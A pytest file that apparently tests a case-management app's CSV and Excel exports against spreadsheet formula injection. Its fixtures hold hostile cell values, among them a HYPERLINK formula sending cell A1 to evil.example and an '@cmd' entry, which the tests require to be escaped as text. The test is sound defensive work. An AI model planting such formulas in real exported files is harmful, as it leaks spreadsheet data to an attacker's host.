"""Formula injection (issue 12, item 5): typed text that starts with = + - @ tab or CR comes
out of the case list's CSV and .xlsx exports as text, never as a formula; codes, times and
dates stay what they are (.xlsx: date cells)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

HTML = {"accept": "text/html"}
TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(1,1)"]
CATEGORY_NAMES = {"neighbour": "\t=1+2", "contract": "\r@cmd"}  # typed by an administrator
PLAIN = "邻里排水纠纷"


@pytest.fixture
def hostile(client_as, new_case_body: dict[str, Any]) -> dict[str, tuple[str, str]]:
    """code → (title, category name) of five cases: four hostile titles and a plain one."""
    admin = client_as("admin")
    for code, name in CATEGORY_NAMES.items():
        form = {"name": name, "sort_order": "1", "active": "1"}
        r = admin.post(f"/admin/categories/{code}", data=form, headers=HTML, follow_redirects=False)
        assert r.status_code == 303, r.text
    wang, made = client_as("wang"), {}
    for i, title in enumerate([*TITLES, PLAIN]):
        category = ("neighbour", "contract")[i % 2]
        body = {**new_case_body, "title": title, "category_code": category}
        r = wang.post("/api/v1/cases", json=body)
        assert r.status_code == 201, r.text
        made[r.json()["code"]] = (title, CATEGORY_NAMES[category])
    return made


def shown(text: str) -> str:
    """What a cell must hold for typed `text`: a leading quote where it would be a formula."""
    return "'" + text if text[0] in "=+-@\t\r" else text


def test_csv_cells_never_start_a_formula(client_as, hostile):
    r = client_as("wang").get("/cases/export.csv")
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == set(hostile)
    for code, (title, category) in hostile.items():
        row = by_code[code]
        assert (row[3], row[2]) == (shown(title), shown(category))
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)
        datetime.strptime(row[11], "%Y-%m-%d %H:%M")  # the registration time, unchanged
    assert by_code[next(c for c, (t, _) in hostile.items() if t == PLAIN)][3] == PLAIN


def test_xlsx_cells_are_text_not_formulas_and_dates_stay_dates(client_as, hostile):
    r = client_as("wang").get("/cases/export.xlsx")
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).worksheets[0]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(rows) == set(hostile)
    for code, (title, category) in hostile.items():
        row = rows[code]
        assert [c.data_type for c in row[:11]] == ["s"] * 11, [c.value for c in row]
        assert (row[3].value, row[2].value) == (shown(title), shown(category))
        assert isinstance(row[11].value, datetime) and row[11].is_date
        assert row[12].value in (None, "") or isinstance(row[12].value, date)
